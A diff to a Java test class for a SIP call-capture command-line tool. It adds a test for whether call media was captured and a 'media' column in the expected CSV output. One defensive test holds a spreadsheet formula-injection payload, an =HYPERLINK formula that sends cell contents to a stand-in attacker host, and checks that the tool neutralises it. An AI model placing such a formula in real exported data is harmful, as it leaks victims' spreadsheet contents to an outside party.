@@ -144,10 +144,24 @@ class CallsOnTheCommandLineTest {
     }
 
     @Test
+    void tellsWhichWaysMediaWereCaptured() throws IOException {
+        String capture = "src/test/resources/captures/sipnab-sip-call-rtp-g711";
+
+        assertThat(json(calls(capture, "--format=json")).path("calls").findValuesAsText("media"))
+                .contains("both-ways");
+        assertThat(calls(capture, "--format=csv").out()).contains(",both-ways\r\n");
+        assertThat(json(calls(good, "--format=json")).path("calls").path(0).path("media").asText())
+                .isEqualTo("not-captured");
+        assertThat(json(calls(good, "--format=json")).path("calls").path(1).path("media").isNull())
+                .as("it was refused")
+                .isTrue();
+    }
+
+    @Test
     void noCellOfTheCsvIsAFormula() {
         String csv = calls("src/test/resources/robust/csv.txt", "--format=csv").out();
 
-        assertThat(csv).contains(",\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&B2;\"\"Call\"\")\"\r\n");
+        assertThat(csv).contains(",\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&B2;\"\"Call\"\")\",\r\n");
     }
 
     @Test
@@ -156,9 +170,9 @@ class CallsOnTheCommandLineTest {
         assertThat(lines).hasSize(2);
         assertThat(lines[0])
                 .isEqualTo("start,from,to,method,ending,code,firstSaidBy,messages,retransmissions,postDialDelay,"
-                        + "ringTime,talkTime,callId");
+                        + "ringTime,talkTime,callId,media");
         assertThat(lines[1])
-                .endsWith(",100@example.com,200@example.com,INVITE,rejected,486,192.0.2.2:5060,3,0,,,,call-2");
+                .endsWith(",100@example.com,200@example.com,INVITE,rejected,486,192.0.2.2:5060,3,0,,,,call-2,");
     }
 
     @Test
